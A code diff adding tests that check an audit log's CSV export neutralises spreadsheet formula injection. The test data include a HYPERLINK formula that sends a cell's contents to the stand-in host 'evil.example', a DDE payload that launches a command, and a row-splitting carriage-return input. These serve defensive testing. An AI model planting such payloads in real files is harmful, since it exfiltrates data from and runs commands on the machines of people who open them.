@@ -12,10 +12,14 @@ from fastapi.testclient import TestClient
 from sqlalchemy import select
 
 from audit.events import Action, Actor
+from audit.export import FORMULA_STARTS, csv_cell
 from audit.models import AuditEvent
+from core.dispatch import InProcessDispatcher
+from pipeline.platform_receiver import ReceiverState
 from runtime.container import Runtime
 from tests.audit.factories import write_events
-from tests.conftest import auth, new_api_key, new_user_token
+from tests.conftest import auth, new_api_key, new_user_token, wait_for
+from tests.pipeline.factories import make_case
 
 ENDPOINTS = [
     ("GET", "/v1/audit/events"),
@@ -260,3 +264,85 @@ def test_scoring_logs_the_posts_own_date_for_later_statements(
             )
         ).one()
     assert doc["veracity"]["after"]["posted_at"] == "2026-01-02T03:04:05+00:00"  # type: ignore[index]
+
+
+PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_an_appeal_reason_planted_as_a_formula_exports_as_inert_text(
+    rt: Runtime,
+    pipeline: InProcessDispatcher,
+    client: TestClient,
+    receiver: tuple[ReceiverState, str],
+) -> None:
+    """An outside author writes the appeal reason; legal opens the export in a spreadsheet."""
+    make_case(rt.sessions, post_id="csv-1")
+    reviewer = auth(new_user_token(rt, "reviewer"))
+    case = client.post("/v1/cases/claim", headers=reviewer).json()["case"]
+    decision = {"reason_code": "false_claim", "action": "remove", "note": "debunked"}
+    decided = client.post(f"/v1/cases/{case['id']}/decision", json=decision, headers=reviewer)
+    assert decided.status_code == 200, decided.text
+    pipeline.drain()
+    wait_for(lambda: len(receiver[0].actions_applied()) == 1)
+    author = auth(new_api_key(rt, ("score",)))
+    appealed = client.post("/v1/posts/csv-1/appeal", json={"reason": PLANTED}, headers=author)
+    assert appealed.status_code == 200, appealed.text
+    resp = client.get(
+        "/v1/audit/export",
+        params={"format": "csv", "post_id": "csv-1"},
+        headers=auth(new_user_token(rt, "legal")),
+    )
+    rows = list(csv.DictReader(io.StringIO(resp.text)))
+    reasons = [row["veracity.reason"] for row in rows]
+    assert "'" + PLANTED in reasons  # shown as the text it is, the rest byte-exact
+    for row in rows:
+        for cell in row.values():
+            assert not cell.lstrip(" \t\r\n").startswith(FORMULA_STARTS), cell
+
+
+@pytest.mark.parametrize(
+    ("reason", "exported"),
+    [
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1;1)", "'@SUM(1;1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("   =1+1", "'   =1+1"),
+        ("\n @x", "'\n @x"),
+        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),
+        ("a = b + c - d @ e", "a = b + c - d @ e"),  # only the start matters
+        ("'already quoted", "'already quoted"),
+    ],
+)
+def test_every_formula_start_is_neutralised_in_the_csv(
+    rt: Runtime, client: TestClient, reason: str, exported: str
+) -> None:
+    write_events(rt, 1, reason=reason)
+    resp = client.get(
+        "/v1/audit/export",
+        params={"format": "csv", "action": "case.decided"},
+        headers=auth(new_user_token(rt, "legal")),
+    )
+    rows = list(csv.reader(io.StringIO(resp.text, newline="")))
+    column = rows[0].index("veracity.reason")
+    assert rows[1][column] == exported
+
+
+def test_numbers_and_json_cells_are_left_as_they_are() -> None:
+    assert csv_cell(-0.5) == "-0.5" and csv_cell(3) == "3" and csv_cell(True) == "true"
+    assert csv_cell({"a": "=1"}) == '{"a": "=1"}'
+    assert csv_cell(["-admin", "legal"]) == "'-admin;legal"
+
+
+def test_a_carriage_return_in_a_cell_does_not_split_the_row(
+    rt: Runtime, client: TestClient
+) -> None:
+    write_events(rt, 2, reason="fine\r,forged,row")
+    resp = client.get(
+        "/v1/audit/export",
+        params={"format": "csv", "action": "case.decided"},
+        headers=auth(new_user_token(rt, "legal")),
+    )
+    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
+    assert [row["veracity.reason"] for row in rows] == ["fine\r,forged,row"] * 2
